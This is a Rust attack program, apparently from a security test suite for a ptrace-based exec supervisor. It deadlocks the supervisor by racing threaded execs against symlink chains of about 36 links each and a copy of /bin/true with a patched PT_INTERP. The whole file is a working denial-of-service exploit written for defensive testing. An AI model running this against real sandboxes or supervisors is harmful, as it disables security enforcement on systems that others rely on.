//! Attack program: make the supervisor wait on an exec that waits on the supervisor (attack
//! class 10, "the supervisor never deadlocks").
//!
//! `sw-attack-deadlock GOOD WORKDIR TRIES`
//!
//! GOOD is an allowed, dynamically linked program that exits 0 (a copy of /bin/true). The
//! program builds in WORKDIR (which the policy must allow executing from): `z/l0`, a chain of
//! 36 symlinks to GOOD; `i/l0`, a chain of 36 symlinks to GOOD's ELF interpreter; and `w`, a
//! copy of GOOD whose `PT_INTERP` names `/tmp/swdl-PID` (a symlink to `i/l0`). Each try forks a
//! process whose threads exec, in this order (all allowed by the policy):
//! - Z: `z/l0` with 190,000 one-byte arguments (near ARG_MAX). The supervisor attaches to it and lets it go;
//!   the kernel then spends a long time walking the chain and copying the arguments before it
//!   takes the exec lock (`cred_guard_mutex`);
//! - W (2 ms later): `w`. The supervisor lets it go quickly (it does not look at `PT_INTERP`);
//!   W takes the exec lock and holds it while the kernel walks the interpreter's chain, then
//!   kills the other threads and waits until they are gone. Z, traced by the supervisor,
//!   becomes a zombie that only the supervisor can reap;
//! - C1..C6 (right after W): GOOD. The supervisor receives them while W holds the lock, and
//!   `PTRACE_SEIZE` waits for that lock.
//!
//! The supervisor waits in `PTRACE_SEIZE` for W, W waits for the supervisor to reap Z: nothing
//! moves until W's process is killed (here after 5 s). A prober process of the same session
//! execs GOOD every 20 ms meanwhile. Prints `R PID OUTCOME ms=N` per try (`x0`, or `hang`,
//! after which it stops) and `probe worst_ms=N`, the slowest exec of the prober.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};
use session_wrapper_tests::raw::{args, cstr, end_prober, environ, execve, fail, fork_child, short_status, start_prober, sys, wait_child};

/// execve with addresses (so closures stay `Send`), then wait to be ended by the winner.
fn exec_and_pause(path: usize, argv: usize) -> ! {
    // SAFETY: valid path and argv pointers kept alive by the caller, and the environment.
    unsafe { sys(libc::SYS_execve, [path as u64, argv as u64, environ() as u64, 0, 0, 0]) };
    loop {
        // SAFETY: pause until killed.
        unsafe { sys(libc::SYS_pause, [0; 6]) };
    }
}

static PHASE: AtomicU32 = AtomicU32::new(0);

fn child(good: &CString, zpath: &CString, script: &CString) -> ! {
    let x = cstr(b"x");
    let mut zargv: Vec<*const libc::c_char> = vec![c"z".as_ptr()];
    zargv.extend(std::iter::repeat_n(x.as_ptr(), 190_000));
    zargv.push(std::ptr::null());
    let wargv: [*const libc::c_char; 2] = [c"w".as_ptr(), std::ptr::null()];
    let cargv: [*const libc::c_char; 2] = [c"c".as_ptr(), std::ptr::null()];
    let (g, z, s) = (good.as_ptr() as usize, zpath.as_ptr() as usize, script.as_ptr() as usize);
    let (za, wa, ca) = (zargv.as_ptr() as usize, wargv.as_ptr() as usize, cargv.as_ptr() as usize);
    // Sleep-polling, not spinning: on two cores, spinning threads starve the one that must go
    // first.
    let wait = |p: u32| {
        while PHASE.load(Ordering::SeqCst) < p {
            std::thread::sleep(Duration::from_micros(20));
        }
    };
    std::thread::spawn(move || exec_and_pause(z, za));
    std::thread::spawn(move || {
        wait(1);
        exec_and_pause(s, wa)
    });
    for _ in 0..6 {
        std::thread::spawn(move || {
            wait(2);
            exec_and_pause(g, ca)
        });
    }
    std::thread::sleep(Duration::from_millis(2));
    PHASE.store(1, Ordering::SeqCst);
    std::thread::sleep(Duration::from_micros(300));
    PHASE.store(2, Ordering::SeqCst);
    loop {
        // SAFETY: the main thread waits to be ended.
        unsafe { sys(libc::SYS_pause, [0; 6]) };
    }
}

fn main() {
    let a = args(3..=3, "usage: sw-attack-deadlock GOOD WORKDIR TRIES");
    let good = cstr(a[0].as_bytes());
    let work = std::path::PathBuf::from(&a[1]);
    let tries: usize = a[2].to_string_lossy().parse().unwrap_or(5);
    let (zpath, script, shortcut) = build(std::path::Path::new(&a[0]), &work);
    let zpath = cstr(zpath.as_os_str().as_bytes());
    let script = cstr(script.as_os_str().as_bytes());
    let argv: [*const libc::c_char; 2] = [c"probe".as_ptr(), std::ptr::null()];
    let (prober, pipe) = start_prober(|| execve(good.as_ptr(), argv.as_ptr(), environ()), None);
    for _ in 0..tries {
        // Single-threaded here; the child runs `child`.
        let pid = fork_child(|| child(&good, &zpath, &script));
        let t0 = Instant::now();
        let o = wait_child(pid, Duration::from_secs(5), Duration::from_millis(1)).map_or_else(|| "hang".to_string(), short_status);
        let res = format!("{o} ms={}", t0.elapsed().as_millis());
        println!("R {pid} {res}");
        if res.starts_with("hang") {
            // One is proof enough; each costs 5 s.
            break;
        }
    }
    // Let the prober finish an exec that may have waited on the supervisor.
    std::thread::sleep(Duration::from_millis(300));
    end_prober(prober, pipe);
    let _ = std::fs::remove_file(shortcut);
}

/// A chain of `n` symlinks in `dir` (`l0` -> ... -> `target`), each link a long path.
fn chain(dir: &std::path::Path, n: usize, target: &std::path::Path) -> std::path::PathBuf {
    let d = dir.join("d");
    std::fs::create_dir_all(&d).unwrap_or_else(|e| fail(&format!("mkdir: {e}")));
    let base = dir.as_os_str().as_bytes().to_vec();
    for i in 0..n {
        let next: Vec<u8> = if i + 1 < n {
            format!("../l{}", i + 1).into_bytes()
        } else {
            // From DIR/d: up to / (extra ".." stop at the root), then the absolute target.
            let mut v = b"../../../../../../../../../../../../..".to_vec();
            v.extend_from_slice(target.as_os_str().as_bytes());
            v
        };
        let reps = (4000 - base.len() - next.len() - 8) / 5;
        let mut t = base.clone();
        t.extend_from_slice(b"/d");
        for _ in 0..reps {
            t.extend_from_slice(b"/../d");
        }
        t.push(b'/');
        t.extend_from_slice(&next);
        let link = dir.join(format!("l{i}"));
        std::os::unix::fs::symlink(std::ffi::OsStr::from_bytes(&t), &link).unwrap_or_else(|e| fail(&format!("symlink: {e}")));
    }
    dir.join("l0")
}

/// The offset and size of the PT_INTERP string in an ELF64 file.
fn pt_interp(elf: &[u8]) -> Option<(usize, usize)> {
    let u16_at = |o: usize| Some(u16::from_le_bytes(elf.get(o..o + 2)?.try_into().ok()?));
    let u64_at = |o: usize| Some(u64::from_le_bytes(elf.get(o..o + 8)?.try_into().ok()?));
    if elf.get(..4)? != b"\x7fELF" {
        return None;
    }
    let phoff = u64_at(0x20)? as usize;
    let phentsize = u16_at(0x36)? as usize;
    let phnum = u16_at(0x38)? as usize;
    for i in 0..phnum {
        let ph = phoff + i * phentsize;
        if u32::from_le_bytes(elf.get(ph..ph + 4)?.try_into().ok()?) == 3 {
            return Some((u64_at(ph + 8)? as usize, u64_at(ph + 32)? as usize));
        }
    }
    None
}

/// Builds Z's path, W's program and the /tmp shortcut (to remove at the end).
fn build(good: &std::path::Path, work: &std::path::Path) -> (std::path::PathBuf, std::path::PathBuf, std::path::PathBuf) {
    let zpath = chain(&work.join("z"), 36, good);
    let mut elf = std::fs::read(good).unwrap_or_else(|e| fail(&format!("read GOOD: {e}")));
    let (off, size) = pt_interp(&elf).unwrap_or_else(|| fail("GOOD has no PT_INTERP"));
    let interp = elf[off..off + size].split(|&b| b == 0).next().unwrap_or_default().to_vec();
    let ipath = chain(&work.join("i"), 36, std::path::Path::new(std::ffi::OsStr::from_bytes(&interp)));
    let shortcut = std::path::PathBuf::from(format!("/tmp/swdl-{}", std::process::id()));
    let _ = std::fs::remove_file(&shortcut);
    std::os::unix::fs::symlink(&ipath, &shortcut).unwrap_or_else(|e| fail(&format!("symlink {}: {e}", shortcut.display())));
    let name = shortcut.as_os_str().as_bytes();
    if name.len() + 1 > size {
        fail("PT_INTERP too small for the shortcut");
    }
    elf[off..off + size].fill(0);
    elf[off..off + name.len()].copy_from_slice(name);
    let w = work.join("w");
    std::fs::write(&w, &elf).unwrap_or_else(|e| fail(&format!("write w: {e}")));
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&w, std::fs::Permissions::from_mode(0o755)).unwrap_or_else(|e| fail(&format!("chmod: {e}")));
    (zpath, w, shortcut)
}
